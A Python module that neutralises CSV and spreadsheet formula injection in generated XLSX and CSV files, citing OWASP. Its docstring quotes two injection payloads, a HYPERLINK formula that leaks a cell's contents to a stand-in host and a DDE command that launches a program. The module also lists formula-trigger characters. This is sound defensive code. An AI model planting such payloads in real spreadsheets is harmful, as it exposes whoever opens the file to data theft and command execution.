"""Spreadsheet and CSV cells that stay text: no formula, no character Excel cannot store
(ISSUE 9 item 7; OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection).

A justification, a name or a remark comes from people and from the platform's export.
Written as is, ``=HYPERLINK("http://x/?"&A2,"看")`` or ``=cmd|' /C calc'!A0`` is a live
formula when the supervisor opens the sheet, and openpyxl itself turns any text that
starts with ``=`` into a formula. Every writer of an XLSX or CSV cell in docgen
(:mod:`docgen.report`, :mod:`docgen.audit.sheet`) passes each text value through
:func:`cell_text`, here and nowhere else:

* a value starting with a *formula trigger* — ``=`` ``+`` ``-`` ``@``, tab, carriage
  return, line feed (OWASP's list, line feed added as LibreOffice treats it alike), or
  the full-width ``＝`` ``＋`` ``－`` ``＠`` that Excel's East-Asian input turns into
  their ASCII forms — gets a single quote ``'`` in front, as OWASP recommends: Excel
  and LibreOffice show it as text, and it stays readable (``'=1+1``, ``'-``). A value
  that already starts with ``'`` gets one too, so that :func:`restore` can take
  exactly one quote off every value that starts with one: the mapping is one-to-one.
  A lone ``-`` is prefixed like any other value, for consistency;
* characters an XLSX cannot hold (C0 controls other than tab, line feed and carriage
  return; U+FFFE, U+FFFF; lone surrogates) become U+FFFD, in CSV as well, so that both
  files of a report hold the same text and neither writer fails on them.

Numbers, dates and booleans are not text: they are written as real numbers and dates,
so ``-5`` stays the number -5. In an XLSX, a text cell is stored with type ``s``
(:func:`put_text`): never ``f``, so the workbook holds no ``<f>`` element.

Reading back: docgen knows which cells it wrote (the pre-filled columns of the sample
sheet, its key columns, its metadata sheet) and takes the quote off those with
:func:`restore`; ``restore(cell_text(t)) == stored_text(t)``, which is ``t`` itself
unless ``t`` held a character an XLSX cannot (replaced as above). Cells a person
filled in are read as they are: a quote Excel shows in front is not part of the value.
"""

from __future__ import annotations

import re
from datetime import date, datetime, time
from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula (or, for tab,
#: CR and LF, that hide what follows): OWASP's list with LF and the full-width forms.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
#: What goes in front of such a value (and of a value starting with it already).
QUOTE = "'"
#: Written in place of a character an XLSX cannot hold.
REPLACEMENT = "\ufffd"
#: XML 1.0 has no place for these (and openpyxl raises on the C0 controls).
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
_PREFIXED = FORMULA_TRIGGERS | {QUOTE}


def stored_text(text: str) -> str:
    """``text`` with every character an XLSX cannot hold replaced by U+FFFD."""
    return _NOT_XML.sub(REPLACEMENT, text)


def neutralise(text: str) -> str:
    """``text`` with a quote in front if it starts with a formula trigger or a quote."""
    return QUOTE + text if text and text[0] in _PREFIXED else text


def cell_text(text: str) -> str:
    """The text docgen writes to an XLSX or CSV cell for ``text`` (see the module)."""
    return neutralise(stored_text(text))


def restore(text: str) -> str:
    """The text of a cell docgen wrote with :func:`cell_text`: the one quote in front
    taken off. Only for cells docgen wrote itself."""
    return text[1:] if text.startswith(QUOTE) else text


def is_number(value: Any) -> bool:
    """Whether ``value`` is written as a number (an int or float, not a bool)."""
    return isinstance(value, int | float) and not isinstance(value, bool)


def xlsx_value(value: Any) -> Any:
    """What an XLSX cell gets for ``value``: ``None``, numbers, dates and times as they
    are (a time zone dropped: Excel has none, openpyxl refuses one; the clock time
    shown stays); text through :func:`cell_text`; anything else as its text."""
    if isinstance(value, str):
        return cell_text(value)
    if isinstance(value, datetime | time) and value.tzinfo is not None:
        return value.replace(tzinfo=None)
    if value is None or is_number(value) or isinstance(value, date | time):
        return value
    return cell_text(str(value))


def put_text(cell: Any, value: Any) -> Any:
    """Set openpyxl ``cell`` to :func:`xlsx_value` of ``value``; text is stored with
    type ``s`` (string), never ``f`` (formula). Returns the cell."""
    cell.value = xlsx_value(value)
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell
